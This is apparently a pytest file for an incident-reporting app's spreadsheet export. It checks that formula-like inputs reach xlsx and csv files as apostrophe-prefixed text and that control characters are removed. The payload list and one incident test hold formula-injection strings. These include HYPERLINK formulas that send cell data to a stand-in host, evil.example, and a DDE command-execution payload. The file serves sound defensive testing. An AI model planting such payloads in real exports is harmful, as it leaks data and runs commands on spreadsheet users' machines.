"""Exports as an attacker would use them: a formula typed into any field must reach the official's
spreadsheet as text, and a stored control character must not break the export."""

import csv
import io

import pytest
from openpyxl import load_workbook

from accounts.roles import Role
from anshun.exports import table_response
from tests.factories import user_for_role

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\x01",
]


def _xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


def _csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def test_xlsx_formula_cells_are_written_as_text_with_an_apostrophe():
    response = table_response(
        export_format="xlsx", filename="t", headers=["=cmd()", "值"], rows=[[p, 5] for p in PAYLOADS]
    )
    rows = _xlsx_rows(response)
    header, body = rows[0], rows[1:]
    assert header[0].data_type == "s" and header[0].value == "'=cmd()"
    assert len(body) == len(PAYLOADS)
    for cells in body:
        text, number = cells
        assert text.data_type == "s", text.value
        assert text.value.startswith("'"), text.value
        assert not any(ord(c) < 32 and c not in "\t\n" for c in text.value)
        assert number.data_type == "n" and number.value == 5  # numbers stay numbers
    assert body[0][0].value == "'" + PAYLOADS[0]
    assert body[-1][0].value == "'=1+1"  # the control character is gone


def test_csv_formula_cells_get_an_apostrophe_and_lose_control_characters():
    response = table_response(
        export_format="csv", filename="t", headers=["@head", "值"], rows=[[p, -5] for p in PAYLOADS]
    )
    rows = _csv_rows(response)
    assert rows[0] == ["'@head", "值"]
    for row in rows[1:]:
        assert row[0].startswith("'"), row
        assert "\x01" not in row[0] and "\r" not in row[0]
        assert row[1] == "-5"  # a number is a number, not text a spreadsheet re-reads as a formula
    assert rows[1][0] == "'" + PAYLOADS[0]


def test_plain_text_and_newlines_pass_unchanged():
    response = table_response(
        export_format="xlsx", filename="t", headers=["说明"], rows=[["第一行\n第二行\t结束"], ["a=b"]]
    )
    [_header, first, second] = _xlsx_rows(response)
    assert first[0].value == "第一行\n第二行\t结束" and second[0].value == "a=b"


@pytest.mark.django_db
@pytest.mark.parametrize("export", ["xlsx", "csv"])
def test_an_incident_description_with_a_formula_and_a_control_character_exports(
    client, make_incident, export
):
    make_incident(description='=HYPERLINK("http://evil.example","看")\x01垃圾')
    make_incident(description="普通\x01描述")
    client.force_login(user_for_role(Role.CITY_OFFICIAL))
    response = client.get("/incidents/", {"export": export})
    assert response.status_code == 200
    if export == "xlsx":
        cells = [row[4] for row in _xlsx_rows(response)[1:]]
        assert {c.data_type for c in cells} == {"s"}
        descriptions = {c.value for c in cells}
    else:
        descriptions = {row[4] for row in _csv_rows(response)[1:]}
    assert descriptions == {'\'=HYPERLINK("http://evil.example","看")垃圾', "普通描述"}
